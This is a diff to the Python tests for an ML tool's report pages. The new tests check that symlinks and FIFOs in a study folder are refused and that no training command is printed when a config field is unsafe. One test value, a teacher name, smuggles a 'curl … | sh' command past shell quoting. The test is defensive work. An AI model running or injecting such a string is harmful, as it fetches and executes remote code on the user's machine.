@@ -18,6 +18,7 @@ from kravets.experiments.confirmation import confirm
 from kravets.experiments.keras_tuner import Search, search
 from kravets.experiments.ledger import Ledger
 from kravets.experiments.study import study
+from kravets.report import run_page
 from kravets.report.pages import ReportError
 from kravets.report.words import WORDS
 from kravets.report.writing import written
@@ -135,7 +136,7 @@ def test_an_evaluated_run_shows_the_test_set_and_its_calibration(tmp_path: Path)
     assert WORDS["en"]["not_watched"] in page.text
     command = re.search(r"kravets (train .*)", page.text)
     assert command
-    assert "--set 'epochs=1'" in command[1]
+    assert "--set epochs=1 " in command[1]
     assert "--set 'architecture.widths=[16]'" in command[1]
 
 
@@ -213,6 +214,26 @@ def test_links_and_devices_in_a_run_are_not_followed(trained: Path, tmp_path: Pa
         (folder / name).unlink()
         (folder / name).write_bytes(whole)
     report.write_page(folder)
+
+
+@pytest.mark.parametrize("name", ["activation.json", "activation.csv", "activation-runs.csv"])
+def test_links_and_devices_in_a_study_are_not_followed(name: str, studied: Path, tmp_path: Path) -> None:
+    folder = Path(shutil.copytree(studied / "mlp-fashion_mnist", tmp_path / "copy"))
+    (folder / name).rename(tmp_path / name)
+    (folder / name).symlink_to(tmp_path / name)
+    with pytest.raises(ReportError, match="cannot be read"):
+        report.write_page(folder)
+    (folder / name).unlink()
+    os.mkfifo(folder / name)  # which would wait for ever
+    with pytest.raises(ReportError, match="no plain file"):
+        report.write_page(folder)
+
+
+def test_a_command_is_shown_only_where_it_trains_the_same_and_nothing_else() -> None:
+    standard = config.preset("standard")
+    assert run_page._command(standard) == "kravets train --preset standard --seed 0"
+    taught = config.Distillation(teachers=("'; curl x | sh; '",))
+    assert run_page._command(standard.model_copy(update={"distillation": taught})) is None
 
 
 def test_a_page_takes_no_other_things_place(studied: Path) -> None:
